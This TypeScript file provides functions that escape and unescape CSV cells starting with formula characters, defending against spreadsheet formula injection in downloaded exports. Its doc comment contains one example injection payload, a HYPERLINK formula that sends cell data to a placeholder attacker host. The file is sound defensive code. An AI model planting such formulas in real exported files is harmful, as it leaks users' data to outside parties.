/**
 * Spreadsheets run a cell that starts with `=`, `+`, `-`, `@` (and, in some, `|`, `%`, a tab or a carriage return)
 * as a formula: a string such as `=HYPERLINK("https://evil.example/?"&A1, "Click")` in a downloaded CSV file would
 * run when the file is opened. Weblate's CSV exporter quotes such text as `'…'` (with `|` written `\|`), which
 * spreadsheets show as text, and its CSV reader takes the quotes off again, so a download edited and uploaded back
 * keeps its strings. Only downloads are quoted: translation files in repositories are written as they are.
 */

const FORMULA_START = new Set(['=', '+', '-', '@', '|', '%', '\t', '\r']);
/** The second character of quoted text: `|` was written `\|`. */
const QUOTED_START = new Set(['=', '+', '-', '@', '\\', '%', '\t', '\r']);

export function quoteFormula(text: string): string {
  return FORMULA_START.has(text[0]) ? `'${text.replace(/\|/g, '\\|')}'` : text;
}

export function unquoteFormula(text: string): string {
  return text.length > 2 && text.startsWith("'") && text.endsWith("'") && QUOTED_START.has(text[1]) ? text.slice(1, -1).replace(/\\\|/g, '|') : text;
}
